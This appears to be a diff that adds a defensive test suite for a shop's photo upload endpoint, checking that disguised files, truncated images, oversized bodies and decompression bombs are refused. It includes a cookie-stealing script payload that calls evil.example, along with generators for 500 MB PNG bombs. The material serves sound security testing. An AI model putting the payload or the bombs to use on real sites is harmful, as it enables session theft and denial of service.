@@ -1,0 +1,247 @@
+import { request } from 'node:http'
+import { text } from 'node:stream/consumers'
+import { crc32, deflateSync } from 'node:zlib'
+import fc from 'fast-check'
+import sharp from 'sharp'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { openShop, type Shop } from '../../../test/harness/app.ts'
+import type { Person } from '../../../test/harness/people.ts'
+import { plain, upload } from '../../../test/harness/photos.ts'
+import { readTables } from '../../../test/harness/tables.ts'
+
+let shop: Shop
+let sana: Person
+
+beforeAll(async () => {
+  shop = await openShop()
+  sana = await shop.signUp('Sana', 'seller')
+})
+afterAll(() => shop.close())
+
+const mega = 1024 * 1024
+
+/** Nobody could try that often in an hour. */
+async function tried(bytes: Uint8Array) {
+  await shop.pool.query("delete from rate_limit where key like 'uploadPhoto%'")
+  const { status, body } = await upload(shop, sana, bytes)
+  return [status, body.code ?? 'kept']
+}
+
+function chunk(type: string, data: Buffer): Buffer {
+  const named = Buffer.concat([Buffer.from(type, 'latin1'), data])
+  const frame = Buffer.alloc(8)
+  frame.writeUInt32BE(data.length, 0)
+  frame.writeUInt32BE(crc32(named), 4)
+  return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)])
+}
+
+/** A PNG that says it is so large, with these chunks after its head. */
+function png(width: number, height: number, ...chunks: Buffer[]): Buffer {
+  const head = Buffer.alloc(13)
+  head.writeUInt32BE(width, 0)
+  head.writeUInt32BE(height, 4)
+  head.set([8, 2, 0, 0, 0], 8)
+  const start = Buffer.from('89504e470d0a1a0a', 'hex')
+  return Buffer.concat([start, chunk('IHDR', head), ...chunks, chunk('IEND', Buffer.alloc(0))])
+}
+
+/** 14,000 × 14,000 pixels that are all there, in less than a megabyte. */
+const hugePng = () => plain(14_000).png({ compressionLevel: 9 }).toBuffer()
+
+/** Text in a PNG that becomes 500 MB. */
+function textBomb(): Buffer {
+  const packed = deflateSync(Buffer.alloc(500 * mega), { level: 9 })
+  const words = Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), packed])
+  return png(10, 10, chunk('zTXt', words), chunk('IDAT', deflateSync(Buffer.alloc(310))))
+}
+
+/** A colour profile in a PNG that says it has 500 MB, and becomes that. */
+function profileBomb(): Buffer {
+  const profile = Buffer.alloc(500 * mega)
+  profile.writeUInt32BE(profile.length, 0)
+  profile.write('acsp', 36)
+  const packed = Buffer.concat([Buffer.from('p\0\0', 'latin1'), deflateSync(profile, { level: 9 })])
+  return png(10, 10, chunk('iCCP', packed), chunk('IDAT', deflateSync(Buffer.alloc(310))))
+}
+
+/** More pixels in a PNG than it says it has: 500 MB of them. */
+function pixelBomb(): Buffer {
+  return png(10, 10, chunk('IDAT', deflateSync(Buffer.alloc(500 * mega), { level: 9 })))
+}
+
+const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
+const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`
+const isoFile = (...brands: string[]) => {
+  const box = Buffer.from(`    ftyp${brands[0]}\0\0\0\0${brands.join('')}`, 'latin1')
+  box.writeUInt32BE(box.length, 0)
+  return Buffer.concat([box, Buffer.alloc(400)])
+}
+
+test.each<[string, () => Promise<Uint8Array> | Uint8Array]>([
+  ['nothing', () => Buffer.alloc(0)],
+  ['an SVG with a script', () => Buffer.from(svg)],
+  ['an SVG with a head', () => Buffer.from(`<?xml version="1.0"?>\n${svg}`)],
+  ['a packed SVG', () => deflateSync(svg)],
+  ['a page', () => Buffer.from(`<!doctype html>${script}`)],
+  ['JSON', () => Buffer.from('{"id":1}')],
+  ['a GIF', () => plain(9).gif().toBuffer()],
+  ['a TIFF', () => plain(9).tiff().toBuffer()],
+  ['a PDF', () => Buffer.from('%PDF-1.7\n%âãÏÓ\n')],
+  ['a HEIC', () => isoFile('heic', 'mif1', 'heic')],
+  ['a film', () => isoFile('isom', 'mp42')],
+  ['an AVIF in name only', () => isoFile('avif', 'mif1')],
+  ['a WebP in name only', () => Buffer.from(`RIFF\x24\0\0\0WEBPVP8 ${script}`, 'latin1')],
+  ['a JPEG in name only', () => Buffer.from(`\xff\xd8\xff\xe0${svg}`, 'latin1')],
+  ['a PNG in name only', () => Buffer.from(`\x89PNG\r\n\x1a\n${svg}`, 'latin1')],
+  ['a PNG without pixels', () => png(10, 10)],
+  ['a PNG of no size', () => png(0, 0)],
+  ['an empty AVIF box', () => Buffer.from('\0\0\0\0ftypavif\0\0\0\0', 'latin1')],
+])('%s is no photo', async (_, bytes) => {
+  expect(await tried(await bytes())).toEqual([415, 'not_a_photo'])
+})
+
+test.each(['jpeg', 'png', 'webp', 'avif'] as const)('half of a %s is no photo', async (format) => {
+  const { data } = await noise(300)
+  const whole = await sharp(data, noisy(300)).toFormat(format, { effort: 2 }).toBuffer()
+  expect(await tried(whole)).toEqual([200, 'kept'])
+  for (const part of [0.1, 0.5, 0.9]) {
+    const cut = whole.subarray(0, Math.floor(whole.length * part))
+    expect([part, ...(await tried(cut))]).toEqual([part, 415, 'not_a_photo'])
+  }
+})
+
+const noisy = (width: number) => ({ raw: { width, height: width, channels: 3 as const } })
+async function noise(width: number) {
+  const data = Buffer.alloc(width * width * 3)
+  for (let at = 0; at < data.length; at += 1) data[at] = (at * 2_654_435_761) >>> 24
+  return { data }
+}
+
+test('bytes that are hurt anywhere are a photo or none, never trouble', {
+  timeout: 180_000,
+}, async () => {
+  const formats = ['jpeg', 'png', 'webp', 'avif'] as const
+  const photos = await Promise.all(formats.map((format) => plain(24).toFormat(format).toBuffer()))
+  const hurt = fc.tuple(
+    fc.constantFrom(...photos),
+    fc.array(fc.tuple(fc.nat(2_000), fc.nat(255)), { minLength: 1, maxLength: 6 }),
+  )
+  const property = fc.asyncProperty(hurt, async ([photo, wounds]) => {
+    const bytes = Buffer.from(photo)
+    for (const [at, byte] of wounds) bytes[at % bytes.length] = byte
+    const [status, code] = await tried(bytes)
+    expect(['kept', 'not_a_photo', 'photo_too_large']).toContain(code)
+    expect([200, 413, 415]).toContain(status)
+  })
+  await fc.assert(property, { seed: 20_261_121, numRuns: 150 })
+})
+
+test('a script behind a photo’s pixels is not kept', async () => {
+  const photo = await plain(40).jpeg().toBuffer()
+  const { body } = await upload(shop, sana, Buffer.concat([photo, Buffer.from(svg)]))
+  const kept = await fetch(`${shop.url}/media/${body.id}/40.webp`)
+  expect(Buffer.from(await kept.arrayBuffer()).includes('script')).toBe(false)
+})
+
+type Sending = { person?: Person; announced?: number; sent: number; ends: boolean }
+
+/** Sends so many bytes, saying before how many there will be, or not. */
+function sendBytes({ person, announced, sent, ends }: Sending) {
+  const { promise, resolve, reject } = Promise.withResolvers<[status?: number, code?: string]>()
+  const length = announced && { 'content-length': String(announced) }
+  const token = person && { authorization: `Bearer ${person.token}` }
+  const headers = { ...token, ...(length ?? { 'transfer-encoding': 'chunked' }) }
+  const how = { method: 'POST', headers, agent: false }
+  const call = request(`${shop.url}/api/media`, how, async (answer) => {
+    resolve([answer.statusCode, JSON.parse(await text(answer)).code])
+    call.destroy()
+  })
+  call.on('error', reject)
+  call.flushHeaders()
+  const part = Buffer.alloc(mega / 4, 7)
+  for (let at = 0; at < sent; at += part.length) call.write(part)
+  if (ends) call.end()
+  return promise
+}
+
+test.each([
+  ['announced', { announced: 11 * mega, sent: 11 * mega, ends: true }],
+  ['not announced', { sent: 11 * mega, ends: true }],
+  ['announced, before they come', { announced: 30 * mega, sent: 0, ends: false }],
+  ['not announced, without an end', { sent: 20.25 * mega, ends: false }],
+])('more than ten megabytes are refused, %s', async (_, sending) => {
+  expect(await sendBytes({ person: sana, ...sending })).toEqual([413, 'photo_too_heavy'])
+})
+
+test('ten megabytes are read', async () => {
+  const ten = { person: sana, sent: 10 * mega, ends: true }
+  expect(await sendBytes(ten)).toEqual([415, 'not_a_photo'])
+})
+
+test('a stranger is refused before anything is read', async () => {
+  const nothing = { sent: 0, ends: false }
+  expect(await sendBytes(nothing)).toEqual([401, 'sign_in_required'])
+  expect(await sendBytes({ ...nothing, announced: mega })).toEqual([401, 'sign_in_required'])
+})
+
+test('what is refused leaves nothing behind', async () => {
+  const before = (await readTables(shop.pool, ['rate_limit'])).size
+  await tried(Buffer.from(svg))
+  await tried(await hugePng())
+  await tried(await plain(9).gif().toBuffer())
+  expect((await readTables(shop.pool, ['rate_limit'])).size).toBe(before)
+})
+
+const bombs: [string, () => Promise<Buffer> | Buffer, (string | number)[][]][] = [
+  ['14,000 × 14,000 pixels', hugePng, [[413, 'photo_too_large']]],
+  [
+    'a PNG that only says it is larger',
+    () => png(65_000, 65_000, chunk('IDAT', deflateSync(Buffer.alloc(9)))),
+    [[413, 'photo_too_large']],
+  ],
+  ['an SVG with a script', () => Buffer.from(svg), [[415, 'not_a_photo']]],
+  [
+    'a text of 500 MB in a PNG',
+    textBomb,
+    [
+      [200, 'kept'],
+      [415, 'not_a_photo'],
+    ],
+  ],
+  [
+    'a profile of 500 MB in a PNG',
+    profileBomb,
+    [
+      [200, 'kept'],
+      [415, 'not_a_photo'],
+    ],
+  ],
+  [
+    '500 MB of pixels in a small PNG',
+    pixelBomb,
+    [
+      [200, 'kept'],
+      [415, 'not_a_photo'],
+    ],
+  ],
+]
+
+/** Of this process, which is the server’s too, in bytes; with what JavaScript no longer needs. */
+const resident = () => process.memoryUsage.rss()
+
+test.each(bombs)('%s, 20 times, take no memory to speak of', async (_, make, expected) => {
+  const bytes = await make()
+  expect(bytes.length).toBeLessThan(10 * mega)
+  expect(expected).toContainEqual(await tried(bytes))
+  const before = resident()
+  let most = before
+  const watch = setInterval(() => {
+    most = Math.max(most, resident())
+  }, 5)
+  for (let n = 0; n < 10; n += 1) {
+    const answers = await Promise.all([tried(bytes), tried(bytes)])
+    for (const answer of answers) expect(expected).toContainEqual(answer)
+  }
+  clearInterval(watch)
+  expect((most - before) / mega).toBeLessThan(150)
+})
